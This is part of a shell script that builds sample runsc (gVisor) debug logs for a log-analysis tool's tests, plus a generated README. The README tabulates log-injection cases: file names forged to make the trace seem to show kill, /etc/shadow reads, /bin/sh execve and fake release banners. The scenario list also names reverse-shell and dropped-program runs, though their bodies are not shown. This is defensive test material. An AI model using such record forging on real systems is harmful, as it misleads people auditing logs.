  about 'The sandbox process runs with --panic-signal=12 and gets SIGUSR2; the sentry panics on purpose.'
  cause 'Somebody sent signal 12, for which --panic-signal asks the sentry to panic.'
  decisive 'panic: '
  flag --panic-signal=12
  running_then USR2
}

panic_syscall() {
  about 'A program makes a system call for which a test option lets the sentry panic.'
  cause 'The sentry panicked while it served afs_syscall; the option --TESTONLY-afs-syscall-panic asks for that.'
  decisive 'panic: '
  flag --TESTONLY-afs-syscall-panic
  bundle job '.process.args = ["/usr/bin/probe", "afs"]'
  run job
}

# Nothing is wrong here: an operator asks for the stacks of a sandbox.
debug_stacks() {
  about 'runsc debug --stacks writes all goroutines of a healthy sandbox into its log.'
  decisive 'goroutine '
  sh_bundle web "$until_told"
  create web
  run_runsc start web
  until_said '^ready'
  run_runsc debug --stacks web
  run_runsc kill web KILL
  run_runsc delete --force web
}

# ---------------------------------------------------------------------------------------------------- the table

# gz: logs of more than 11 KB are kept compressed, since all samples together should stay small.
#
# name                     releases format   kept  outcome       function
scenarios='
healthy-text               both     text     plain healthy       healthy
healthy-json               both     json     plain healthy       healthy
healthy-json-k8s           20221219 json-k8s gz    healthy       healthy
healthy-info-level         both     text     gz    healthy       healthy_info_level
healthy-strace-subset      20221219 text     gz    healthy       healthy_strace_subset
healthy-mixed-file         20221219 text     plain healthy       healthy_mixed_file
healthy-pattern            20221219 text     gz    healthy       healthy_pattern
healthy-zone               20240729 text     gz    healthy       healthy_zone
healthy-pipeline           20221219 text     gz    healthy       healthy_pipeline
healthy-threads            20240729 text     gz    healthy       healthy_threads
healthy-job                20240729 text     gz    healthy       healthy_job
attack-reverse-shell       20240729 text     gz    healthy       attack_reverse_shell
attack-dropped-program     20240729 text     gz    healthy       attack_dropped_program
healthy-unsupported        both     text     gz    healthy       healthy_unsupported
healthy-bind-mount         20221219 text     gz    healthy       healthy_bind_mount
healthy-lifecycle          both     text     gz    healthy       healthy_lifecycle
healthy-pod                20240729 text     gz    healthy       healthy_pod
weird-bytes-text           20221219 text     plain healthy       weird_bytes
weird-bytes-text           20240729 text     gz    healthy       weird_bytes
weird-bytes-json           20221219 json     gz    healthy       weird_bytes
weird-bytes-json           20240729 json     plain healthy       weird_bytes
forged-text                both     text     plain healthy       forged
forged-json                both     json     gz    healthy       forged
debug-stacks               20240729 text     gz    healthy       debug_stacks
healthy-do                 20221219 text     gz    healthy       healthy_do

args0-not-found            both     text     plain failed-start  args0_not_found
args0-not-found-json       20240729 json     gz    failed-start  args0_not_found
args0-not-in-path          both     text     gz    failed-start  args0_not_in_path
args0-not-executable       20221219 text     gz    failed-start  args0_not_executable
args0-directory            20240729 text     gz    failed-start  args0_directory
args0-not-a-program        20221219 text     gz    failed-start  args0_not_a_program
script-interpreter-missing 20240729 text     gz    failed-start  script_interpreter_missing
elf-interpreter-missing    both     text     gz    failed-start  elf_interpreter_missing
elf-wrong-arch             20221219 text     gz    failed-start  elf_wrong_arch
args-empty                 both     text     plain failed-start  args_empty
bind-source-missing        both     text     plain failed-start  bind_source_missing
bind-source-missing-json   20240729 json     plain failed-start  bind_source_missing
rootfs-missing             both     text     plain failed-start  rootfs_missing
rootfs-is-a-file           20240729 text     gz    failed-start  rootfs_is_a_file
mount-file-over-directory  20240729 text     plain failed-start  mount_file_over_directory
mount-destination-relative 20240729 text     plain failed-start  mount_destination_relative
volume-destination         both     text     plain failed-start  volume_destination
config-malformed           both     text     plain failed-start  config_malformed
config-missing             both     text     plain failed-start  config_missing
capability-unknown         both     text     plain failed-start  capability_unknown
rlimit-unknown             20221219 text     plain failed-start  rlimit_unknown
rlimit-unknown             20240729 text     gz    failed-start  rlimit_unknown
platform-unknown           both     text     plain failed-start  platform_unknown
platform-kvm-missing       both     text     plain failed-start  platform_kvm_missing
flag-unknown               both     text     plain failed-start  flag_unknown
debug-log-is-a-directory   20240729 text     plain failed-start  debug_log_is_a_directory
netns-missing              both     text     plain failed-start  netns_missing
hook-fails                 20221219 text     plain failed-start  hook_fails
hook-fails                 20240729 text     gz    failed-start  hook_fails
hook-missing               20221219 text     gz    failed-start  hook_missing
id-exists                  20221219 text     plain failed-start  id_exists
id-exists                  20240729 text     gz    failed-start  id_exists
id-invalid                 both     text     plain failed-start  id_invalid
id-unknown                 20221219 text     plain failed-start  id_unknown
cwd-not-a-directory        20240729 text     plain failed-start  cwd_not_a_directory
rootfs-closed              20221219 text     gz    failed-start  rootfs_closed
cgroup-missing             both     text     plain failed-start  cgroup_missing
filestore-stale            20240729 text     plain failed-start  filestore_stale
overlay-directory-missing  20240729 text     plain failed-start  overlay_directory_missing
exec-not-found             both     text     gz    failed-start  exec_not_found
symlink-loop               20240729 text     gz    failed-start  symlink_loop
pod-sandbox-missing        20221219 text     plain failed-start  pod_sandbox_missing
pod-args0-not-found        20240729 text     gz    failed-start  pod_args0_not_found

exit-42                    20221219 text     plain app-failure   exit_42
exit-42                    20240729 text     gz    app-failure   exit_42
exit-42-json-k8s           20240729 json-k8s gz    app-failure   exit_42
app-segv                   20221219 text     plain app-failure   app_segv
app-segv                   20240729 text     gz    app-failure   app_segv
app-abort                  20221219 text     gz    app-failure   app_abort
library-missing            both     text     gz    app-failure   library_missing
shell-command-not-found    20221219 text     gz    app-failure   shell_command_not_found
access-denied              20240729 text     gz    app-failure   access_denied
connection-refused         both     text     gz    app-failure   connection_refused
read-only-root             20221219 text     gz    app-failure   read_only_root
too-many-files             20240729 text     gz    app-failure   too_many_files
deadlock                   20240729 text     gz    hang          deadlock

sandbox-killed             both     text     gz    sandbox-crash sandbox_killed
go-traceback               20221219 text     plain sandbox-crash go_traceback
go-traceback               20240729 text     gz    sandbox-crash go_traceback
panic-signal               20221219 text     gz    sandbox-crash panic_signal
panic-syscall              20240729 text     plain sandbox-crash panic_syscall
panic-syscall-json         20240729 json     gz    sandbox-crash panic_syscall
'

# ------------------------------------------------------------------------------------------------------ the loop

platform_of() { case $1 in 20221219) echo ptrace ;; *) echo systrap ;; esac; }

# end_sandboxes: ends what still runs, without a trace in the sample. This process namespace holds nothing but our own.
end_sandboxes() {
  local pid
  for pid in /proc/[0-9]*; do
    [[ $(tr '\0' ' ' < "$pid/cmdline" 2> /dev/null) != *runsc* ]] || [ "$pid" = "/proc/$$" ] || kill -KILL "${pid#/proc/}"
  done 2> /dev/null
  wait
}

# make RELEASE NAME FORMAT KEPT OUTCOME FUNCTION: one run, one folder.
make() {
  local release=$1 name=$2 format=$3 kept=$4 outcome=$5 function=$6
  local about='' cause='' decisive='' exit=0 behind='' platform commands=() flags=()
  local folder=$out/release-$release/$name
  scenario=$release/$name
  platform=$(platform_of "$release")
  find "$logs" -mindepth 1 -delete
  rm -rf /run/bundles/* /run/runsc /srv/app/*
  : > "$stage/stdout"
  : > "$stage/stderr"
  flags=(--debug "--debug-log=$logs/" --strace --network=none --ignore-cgroups "--platform=$platform")
  [ "$format" = text ] || flag "--debug-log-format=$format"

  "$function"

  end_sandboxes
  [ -n "$about" ] || die "$scenario says nothing about itself"
  [ -n "$decisive" ] || die "$scenario names no decisive text"
  # A command that ends before it opens a log leaves only what it said to its caller.
  [ -n "$(ls "$logs")" ] || cp "$stage/stderr" "$logs/stderr.txt"
  grep -qFa -- "$decisive" "$logs"/* || die "$scenario: the logs do not hold: $decisive; stderr: $(cat "$stage/stderr")"
  case $outcome in
    healthy) [ "$exit" = 0 ] || die "$scenario should be healthy and left with $exit: $(cat "$stage/stderr")" ;;
    hang) ;;
    *) [ "$exit" != 0 ] || die "$scenario should have failed" ;;
  esac

  rm -rf "$folder"
  mkdir -p "$folder"
  cp "$logs"/* "$folder/"
  [ "$kept" = plain ] || find "$folder" -type f -size +11k -exec gzip -9n {} +
  chmod 644 "$folder"/*
  lines() { jq -R . | jq -s .; }
  jq -n --arg about "$about" --arg release "release-$release.0" --arg platform "$platform" --arg format "$format" \
    --argjson command "$(printf '%s\n' "${commands[@]}" | lines)" --arg outcome "$outcome" --argjson exit "$exit" \
    --arg cause "$cause" --arg decisive "$decisive" --rawfile stderr "$stage/stderr" \
    --argjson files "$(cd "$folder" && printf '%s\n' * | lines)" '
      { $about, $release, $platform, $format, $command, $outcome, $exit, $cause, $decisive, $stderr, $files,
        made: "by test/tools/make-samples.sh" } | del(.cause, .stderr | select(. == ""))' > "$stage/sample.json"
  cp "$stage/sample.json" "$folder/sample.json"
  printf '%-9s %-28s %4s KB  exit %s\n' "$release" "$name" "$(du -sk "$folder" | cut -f1)" "$exit"
}

# write_readme: samples/README.md, whose table is made of all sample.json files.
write_readme() {
  cat << 'MARKDOWN'
# samples: real logs of real runs

A folder a run, `<release>/<scenario>/`: the files that runsc left, named as runsc names them, and `sample.json`, which
says what truly happened. Tests read these folders; `runsight` can be tried on them.

Those of runsc are made by `test/tools/make-samples.sh RUNSC_DIR samples` (which writes this page, too) from two released
binaries: runsc 20221219 on the ptrace platform and runsc 20240729 on systrap, in a container of its own, with busybox and a
small C program as the workload. The one in `release-20211019.0` is no run of ours: its `sample.json` says where it comes from.

`native/` holds traces of native strace(1), a folder for each option set and version: `<option set>-<version>`, of strace 6.1,
6.13 and 7.2 (those of Debian 12, 13 and unstable; `test/tools/fetch-strace.sh DIR SUITE` unpacks one). They are made by
`test/tools/make-native-samples.sh samples/native STRACE [STRACE ...]`, of one program (`native-probe.c`) that does the same
each time: 114 calls that return, of which 7 fail and 1 is interrupted, in threads and children that end in all ways there are,
with file names that look like lines of a trace. Only `plain` (the first task alone), `table` (no calls), `succeeded` and `failed`
hold fewer. `tasks` has a file a task, whose name ends in it; the others are one `native.strace` each.

`sample.json`:

- `about`: what happened, in a sentence; `outcome`: healthy, failed-start, app-failure, sandbox-crash or hang;
- `cause`: for what failed, the true cause as the author of the run knows it, which no single line need say;
- `decisive`: a text that stands in the files as it is and points to the cause, or shows the outcome;
- `command`: the command lines in their order; `exit`: the status of the first that failed, else 0, or null if not known;
- `stderr`: what the caller saw; where runsc left before it opened a log, this is all there is, and stands in `stderr.txt`;
- `release`, `platform`, `format` (of the debug log), `files`, `made`.

Long logs of the less important runs are kept as `.gz`. Log files are as they came, damaged bytes included: some hold
invalid UTF-8, terminal escapes, and lines that were forged on purpose through file names. `log.json` is runsc's error log:
JSON objects without a newline between them, or an empty file where no command failed.

## Forged records

The tracer writes names as they are. In `forged-text` a program (`test/tools/samples-forger.c`) uses that to write records of its
own, under both releases; in `forged-json` the same program can forge nothing, since JSON escapes newlines: its counts are the
truth. Each of the records below stands behind a header as runsc prints it, of that moment.

| attack                                     | what the log seems to say                                                  | true records that carry it: forged ones in them |
| ------------------------------------------ | -------------------------------------------------------------------------- | ----------------------------------------------- |
| a path with a record of another task       | `evil E kill(0x1, SIGKILL`                                                 | 2 of access: 2                                  |
| a parenthesis closed within a path         | `forger E openat(AT_FDCWD /, 0x7f00 /etc/shadow`                           | 4 of openat: 6                                  |
| an enter record closed and given a result  | `forger X openat(AT_FDCWD /, 0x7f00 /tmp/c, O_RDONLY\|0x0, 0o0) = 3 (0x3)` | 2 of openat: 4                                  |
| a fatal error                              | `failed to load /usr/bin/innocent`                                         | 2 of access: 4                                  |
| the exit of another task                   | `victim X exit_group(0x7f) = 0 (0x0)`                                      | 2 of unlink: 2                                  |
| the path of execve                         | `forger E execve(0x7f00 /bin/sh`                                           | 3 of execve: 3                                  |
| the target of a symbolic link              | `forger E symlink(0x7f00 more`                                             | 2 of symlink: 2                                 |
| two paths of one rename                    | `forger E kill(0x1, SIGTERM`                                               | 2 of rename: 4                                  |
| the name of an attribute                   | `forger E kill(0x1, SIGHUP`                                                | 2 of getxattr: 2                                |
| a folder, shown by getcwd at its exit only | `evil E kill(0x1, SIGINT)`                                                 | 7 of mkdir, chdir, getcwd, rmdir: 7             |
| the path beside a descriptor               | `forger E read(0x3 x`                                                      | 10 of openat, write, read, close, unlink: 10    |
| the banner of another release              | `Version release-20990101.0`                                               | 2 of access: 4                                  |

Besides, a task calls itself `a X kill(1) = (` and, with a newline, `a\nE kill(0x1`: both are read as names. `summary` counts the calls
of the text as those of the JSON, from a pipe as well; `diagnose` says HEALTHY, with a note of low severity (`forged-records`). A
test holds this table.

## The runs

MARKDOWN
  find "$out" -name sample.json | LC_ALL=C sort | xargs jq -r '
    [(input_filename | split("/")[-2]), (.release | ltrimstr("release-")), .format, .outcome, .about] | @tsv' |
    LC_ALL=C sort -t "$(printf '\t')" -k4,4 -k1,1 -k2,2 | awk -F '\t' '
      function row(i, c, line) { line = "|"; for (c = 1; c <= 5; c++) line = line sprintf(" %-*s |", width[c], cell[i, c]); print line }
      BEGIN { split("scenario\trelease\tformat\toutcome\twhat happened", head, FS); for (c in head) cell[0, c] = head[c] }
      { for (c = 1; c <= 5; c++) cell[NR, c] = $c }
      END {
        for (i = 0; i <= NR; i++) for (c = 1; c <= 5; c++) if (length(cell[i, c]) > width[c]) width[c] = length(cell[i, c])
        row(0)
        line = "|"; for (c = 1; c <= 5; c++) { dash = sprintf("%*s", width[c], ""); gsub(/ /, "-", dash); line = line " " dash " |" } print line
        for (i = 1; i <= NR; i++) row(i)
      }'
}

# A whole run leaves no folder of a scenario that has gone from the table.
[ "$only" != '  ' ] || rm -rf "$out/release-20221219" "$out/release-20240729"

for release in 20221219 20240729; do
  cp "$binaries/runsc-$release" "$runsc"
  while read -r name releases format kept outcome function; do
    [ -n "$name" ] || continue
    [ "$releases" = both ] || [ "$releases" = "$release" ] || continue
    [ "$only" = '  ' ] || [[ $only == *" $name "* ]] || continue
    make "$release" "$name" "$format" "$kept" "$outcome" "$function"
  done <<< "$scenarios"
done

write_readme > "$out/README.md"

# A sample must not tell where it was made.
if find "$out" -type f -name '*.gz' -exec zgrep -aHFf "$forbidden" {} + | cut -c1-300 | head -n 5 | grep . ||
  grep -raFf "$forbidden" --exclude=README.md "$out" | cut -c1-300 | head -n 5 | grep .; then
  die 'the samples hold facts of this machine (above)'
fi
